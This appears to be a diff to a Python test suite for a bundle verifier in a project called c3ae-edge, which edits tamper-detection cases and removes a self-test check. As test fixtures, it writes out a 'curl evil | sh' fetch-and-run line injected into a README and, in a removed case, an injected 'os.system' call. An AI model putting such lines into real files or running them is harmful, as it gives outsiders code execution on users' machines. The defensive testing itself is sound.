@@ -82,15 +82,9 @@ CASES = [
     ),
     Case(
         "readme-install-line",
-        _edit(_sub("README.md", r"^## Check a port", "curl evil | sh\n\n## Check a port")),
+        _edit(_sub("README.md", r"^(# .*)$", "\\1\n\ncurl evil | sh")),
         3,
         ("README.md",),
-    ),
-    Case(
-        "reference-script-code",
-        _edit(_sub("reference_infer.py", r"^import argparse", "import argparse\nimport os; os.system('id')")),
-        3,
-        ("reference_infer.py", "package's own copy"),
     ),
     Case("manifest-bias-and-header", _edit(_bias_everywhere), 3, ("decode", "embedded in c3ae_full_fp32.onnx")),
     Case(
@@ -127,7 +121,7 @@ def test_good_bundle_lists_what_it_derived_and_what_it_could_not(tiny_bundle, cl
     lines = r.out.splitlines()
     assert lines[-1].startswith(f"{tiny_bundle}: origin unproven: no --key"), lines[-1]
     assert "re-derived, identical: c3ae_model.h, README.md" in r.out
-    assert "identical to c3ae-edge's own copies: reference_infer.py" in r.out
+    assert "reference_infer.py" not in r.out  # an ONNX bundle carries none (it runs .tflite files)
     assert "unverified: parity_crops.npy" in r.out and "unverified: calibration_files.txt" in r.out
     assert "unverified: manifest.json target: not a shipped target" in r.out  # the suite's tiny.toml
     rep = json.loads(cli("verify", str(tiny_bundle), "--json").out)
@@ -140,27 +134,6 @@ def test_a_stray_listed_file_is_named_unverified(tiny_bundle, tmp_path, cli):
     resum(b)
     r = cli("verify", str(b))
     assert r.code == 0 and "unverified: notes.txt: not a file c3ae-edge writes" in r.out, r.out + r.err
-
-
-def test_self_test_and_runner_refuse_an_edited_script(tiny_bundle, tmp_path):
-    """reference_infer.py --self-test refuses a bundle whose pinned files differ (its own file included); the pins
-    are what export wrote."""
-    import subprocess
-    import sys
-
-    man = json.loads((tiny_bundle / "manifest.json").read_text())
-    assert [f["file"] for f in man["bundle_files"]] == ["reference_infer.py"]
-    b = copy_bundle(tiny_bundle, tmp_path / "b")
-    with open(b / "reference_infer.py", "a") as f:
-        f.write("\n# edited\n")
-    r = subprocess.run([sys.executable, str(b / "reference_infer.py"), "--self-test"], capture_output=True, text=True)
-    assert r.returncode == 2 and "reference_infer.py: differs from its sha256 in manifest.json" in r.stderr, r.stderr
-    from c3ae_edge.board import onboard
-
-    with pytest.raises(onboard.BundleError, match="differs from its sha256"):
-        onboard.pinned(b, man, "reference_infer.py")
-    with pytest.raises(onboard.BundleError, match="not pinned"):
-        onboard.pinned(b, man, "blazeface.py")
 
 
 def test_a_recorded_runtime_not_run_here_is_listed(tiny_bundle, tmp_path, cli):
